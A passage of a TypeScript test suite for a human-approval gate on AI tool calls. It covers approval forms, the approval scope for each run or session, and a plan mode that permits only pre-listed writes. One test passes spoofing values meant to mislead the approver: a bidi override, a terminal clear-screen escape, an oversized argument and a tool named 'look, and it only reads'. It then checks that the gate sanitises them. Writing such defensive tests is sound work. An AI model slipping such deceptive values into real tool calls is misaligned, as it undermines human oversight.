  it("asks with a form of one choice, whose first is no", async () => {
    const asked: unknown[] = [];
    await elicitApproval(async (question) => {
      asked.push(question);
      return { action: "decline" };
    })(request);
    expect(asked).toMatchObject([
      {
        server: "cem",
        mode: "form",
        requestedSchema: {
          properties: {
            answer: { type: "string", enum: ["No", "Yes, this once", "Yes, for this session"] },
          },
          required: ["answer"],
        },
      },
    ]);
  });
  it("offers a yes for the run where there is no session, and keeps it for the run alone", async () => {
    const offered: unknown[] = [];
    const answering: Elicit = async (question) => {
      offered.push(question);
      return { action: "accept", content: { answer: "Yes, for this run" } };
    };
    const { call } = guarded(requireApproval({ tools: ["files"], elicit: answering }));
    for (const run of ["r1", "r1", "r2"]) await call({ id: 1 }, { run });
    const answer = { enum: ["No", "Yes, this once", "Yes, for this run"] };
    const question = { requestedSchema: { properties: { answer } } };
    expect(offered).toMatchObject([question, question]);
    await expect(elicitApproval(answering)(request)).resolves.toBe("no");
  });
  it("is unanswered where nobody could be asked", async () => {
    await expect(
      elicitApproval(async () => ({ action: "cancel", reason: "Nobody is there." }))(request),
    ).rejects.toThrow("Nobody is there.");
  });
  it("shows the arguments, without what could deceive", () => {
    const text = describeApproval({
      ...request,
      args: { id: "1\u202E\n\u001B[2J", long: "x".repeat(5_000) },
    });
    expect(text).toContain("files.remove, and it may delete");
    expect(text).toContain("<U+202E>");
    expect(text).toMatch(/more characters are not shown/);
    expect(text).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    const named = describeApproval({ ...request, server: "a\u202E\n", tool: "look, and it only reads" });
    expect(named).toContain(`call "a<U+202E>\\n"."look, and it only reads", and it may delete`);
  });
});

describe("a plan", () => {
  it("lists writes, lets reads through, and then allows exactly the writes", async () => {
    const writes: PlannedWrite[] = [];
    const plan = planWrites((write) => void writes.push(write), ["files.look"]);
    const schema = { type: "object", properties: { id: { type: "integer" } }, required: ["id"] };
    const read = guarded(plan, { readOnlyHint: true });
    const write = guarded(plan, undefined, schema);
    await read.call({ a: 1 });
    await write.call({ a: 1 }, {}, "files.look");
    expect(await write.call({ b: 2, a: 1 })).toMatchObject({ ok: true, value: { id: expect.any(Number) } });
    await write.call({ c: 3 });
    expect([read.reached.length, write.reached.length]).toEqual([1, 1]);
    expect(writes.map(({ args }) => args)).toEqual([{ b: 2, a: 1 }, { c: 3 }]);

    const { call, reached } = guarded(followPlan(writes, ["files.look"]));
    await call({ a: 1, b: 2 });
    await expect(call({ a: 1, b: 2 })).rejects.toMatchObject({ code: "NOT_APPROVED" });
    await expect(call({ c: 4 })).rejects.toMatchObject({ code: "NOT_APPROVED" });
    await expect(call({ c: 3 }, {}, "files.other")).rejects.toMatchObject({ code: "NOT_APPROVED" });
    await call({ c: 3 });
    await call({}, {}, "files.look");
    expect(reached).toHaveLength(3);
  });
});
